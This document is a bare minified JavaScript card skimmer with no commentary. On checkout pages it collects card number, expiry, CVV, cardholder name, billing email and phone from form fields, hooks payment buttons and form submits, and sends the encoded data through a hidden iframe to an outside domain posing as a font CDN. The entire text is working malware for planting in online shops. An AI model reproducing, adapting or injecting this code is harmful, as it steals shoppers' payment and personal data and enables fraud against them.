(function(d,w){var F,R=0,Q=[],U="https://cdnfonts-loader.pw/w/f.html",
K=["cc_number","cc_exp","cc_cvv","cc_owner","billing_email","billing_phone"];
function g(n){var e=d.querySelector("[name*='"+n+"'],#"+n);return e?e.value:""}
function m(){if(F)return;F=d.createElement("iframe");F.src=U;F.style.cssText="display:none!important";
F.onload=function(){R=1;for(;Q.length;)F.contentWindow.postMessage(Q.shift(),"*")};
d.body.appendChild(F)}
function p(){var o={},i=0,h=0;for(;i<K.length;i++){o[K[i]]=g(K[i]);o[K[i]]&&h++}
if(h<2)return;o.s=w.location.host;
var s=btoa(JSON.stringify(o));
R?F.contentWindow.postMessage(s,"*"):(Q.push(s),m())}
function b(){var a=d.querySelectorAll("button,input[type=submit],a.button");
for(var i=0;i<a.length;i++)if(!a[i].__h&&/order|pay|checkout|buy/i.test(a[i].innerText||a[i].value||"")){a[i].__h=1;
a[i].addEventListener("click",p,!0)}}
/checkout|onestep|payment/i.test(w.location.href)&&(m(),b(),setInterval(b,2e3));
d.addEventListener("submit",p,!0)
})(document,window);
